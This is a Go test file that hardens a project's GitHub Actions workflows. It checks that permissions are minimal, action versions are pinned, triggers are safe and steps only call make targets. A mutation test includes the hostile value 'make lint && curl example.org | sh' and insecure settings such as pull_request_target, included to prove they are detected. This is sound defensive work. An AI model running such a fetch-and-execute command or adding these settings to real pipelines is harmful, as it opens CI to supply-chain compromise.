package development_test

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"
)

// workflow is the part of one that is looked at; a field that is not here fails
// the test, and whoever adds it thinks about it.
type workflow struct {
	Name        string
	On          map[string]any
	Permissions map[string]string
	Concurrency struct {
		Group            string
		CancelInProgress bool `json:"cancel-in-progress"`
	}
	Jobs map[string]struct {
		RunsOn  string `json:"runs-on"`
		Timeout int    `json:"timeout-minutes"`
		Steps   []struct {
			Uses, Run string
			With      map[string]any
		}
	}
}

// On is YAML's word for true, but not for the library that reads it here.
func readWorkflow(t *testing.T, text string) workflow {
	t.Helper()
	var w workflow
	if err := yaml.UnmarshalStrict([]byte(strings.Replace(text, "\non:\n", "\n\"on\":\n", 1)), &w); err != nil {
		t.Fatal(err)
	}
	return w
}

// faults are what a workflow does that it should not.
func (w workflow) faults(targets []string) (found []string) {
	if len(w.Permissions) != 1 || w.Permissions["contents"] != "read" {
		found = append(found, "has more than it needs")
	}
	if w.Concurrency.Group == "" {
		found = append(found, "runs twice at a time")
	}
	for trigger := range w.On {
		if trigger != "push" && trigger != "pull_request" && trigger != "schedule" {
			found = append(found, "is started by "+trigger)
		}
	}
	call, exact := regexp.MustCompile(`^make ([a-z0-9-]+)$`), regexp.MustCompile(`^[a-z-]+/[a-z-]+@(v\d+\.\d+\.\d+|[0-9a-f]{40})$`)
	for name, job := range w.Jobs {
		if job.Timeout == 0 || job.Timeout > 60 {
			found = append(found, name+" may go on for ever")
		}
		for _, step := range job.Steps {
			if step.Run != "" {
				if m := call.FindStringSubmatch(step.Run); m == nil || !slices.Contains(targets, m[1]) {
					found = append(found, name+" runs "+step.Run)
				}
			}
			if step.Uses != "" && !exact.MatchString(step.Uses) {
				found = append(found, name+" takes whatever version "+step.Uses+" has")
			}
			if strings.HasPrefix(step.Uses, "actions/checkout@") && step.With["persist-credentials"] != false {
				found = append(found, name+" leaves a token in the clone")
			}
		}
	}
	return found
}

func TestWorkflowsOnlyCallMake(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.Join(root, ".github/workflows/*"))
	if err != nil || len(files) == 0 {
		t.Fatalf("%v, %v", files, err)
	}
	for _, file := range files {
		b, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range readWorkflow(t, string(b)).faults(targets(t)) {
			t.Errorf("%s: %s", file, found)
		}
		if strings.Contains(string(b), "secrets.") {
			t.Errorf("%s: it needs no secret", file)
		}
	}
}

func TestWorkflowRunsWhatIsRunByHand(t *testing.T) {
	t.Parallel()
	text := read(t, ".github/workflows/ci.yml")
	for _, target := range []string{"lint", "test", "test-containers", "test-adopted", "test-new-service", "minikube-up", "e2e", "tilt-ci"} {
		if !strings.Contains(text, "run: make "+target+"\n") {
			t.Errorf("it does not run make %s", target)
		}
	}
}

func TestEachFaultOfAWorkflowIsFound(t *testing.T) {
	t.Parallel()
	good := read(t, ".github/workflows/ci.yml")
	for old, bad := range map[string]string{
		"contents: read":                    "contents: write",
		"run: make lint":                    "run: make lint && curl example.org | sh",
		"run: make e2e":                     "run: make what-is-not-there",
		"actions/checkout@":                 "actions/checkout@v6 #",
		"persist-credentials: false":        "persist-credentials: true",
		"timeout-minutes: 60":               "timeout-minutes: 600",
		"  pull_request:":                   "  pull_request_target:",
		"  group: ci-${{ github.ref }}":     "  group: \"\"",
		"yokawasa/action-setup-kube-tools@": "yokawasa/action-setup-kube-tools@main #",
	} {
		if !strings.Contains(good, old) {
			t.Errorf("there is no %q", old)
			continue
		}
		if len(readWorkflow(t, strings.Replace(good, old, bad, 1)).faults(targets(t))) == 0 {
			t.Errorf("%q instead of %q was not noticed", bad, old)
		}
	}
}
